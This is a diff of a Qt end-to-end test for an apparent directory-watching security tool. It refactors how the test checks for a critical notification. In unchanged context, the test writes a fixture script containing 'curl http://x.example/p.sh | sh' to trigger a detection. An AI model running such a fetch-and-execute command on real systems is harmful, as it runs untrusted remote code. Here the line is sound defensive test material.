@@ -19,6 +19,7 @@
 #include <QRegularExpression>
 #include <QTemporaryDir>
 #include <QTest>
+#include <algorithm>
 #include <signal.h>
 
 using namespace Qt::StringLiterals;
@@ -87,8 +88,7 @@ private slots:
         startTray();
         QTRY_VERIFY_WITH_TIMEOUT(geometry(trayWindow()).width() >= 16, 15000);
 
-        // 3. Add the folder through the real chooser: "+", type the path into it once it has the keyboard,
-        // Open.
+        // 3. Add the folder through the real chooser: "+", the path typed once it has the keyboard, Open.
         press(u"Watched Directories"_s, u"Add Directory"_s);
         const QString chooserName = u"^Choose a directory to watch$"_s;
         const QString chooser = waitForWindow(chooserName);
@@ -118,21 +118,18 @@ private slots:
                                  file.write("#!/bin/sh\ncurl http://x.example/p.sh | sh\n") > 0;
             return written && file.setPermissions(file.permissions() | QFileDevice::ExeOwner);
         };
-        QString summary;
         const auto announced = [&] {
-            for (const auto& n : m_desktop->notifications()) {
-                if (n.summary.startsWith(u"\u26D4 Critical: "_s) && n.body == hook)
-                    summary = n.summary;
-            }
-            return !summary.isEmpty();
+            const auto shown = m_desktop->notifications();
+            return std::any_of(shown.begin(), shown.end(), [&](const auto& n) {
+                return n.summary.startsWith(u"\u26D4 Critical: "_s) && n.body == hook;
+            });
         };
-        for (int attempt = 0; attempt < 6; ++attempt) {
+        bool seen = false;
+        for (int attempt = 0; attempt < 6 && !seen; ++attempt) {
             QVERIFY(writeHook());
-            if (QTest::qWaitFor(announced, 5000))
-                break;
+            seen = QTest::qWaitFor(announced, 5000);
         }
-        E2E_VERIFY(!summary.isEmpty());
-        QVERIFY(summary.size() > u"\u26D4 Critical: "_s.size());
+        E2E_VERIFY(seen);
         QTRY_VERIFY_WITH_TIMEOUT(storedRows(u"finding"_s) >= 1, 10000);
         screenshot(u"04-notification"_s);
 
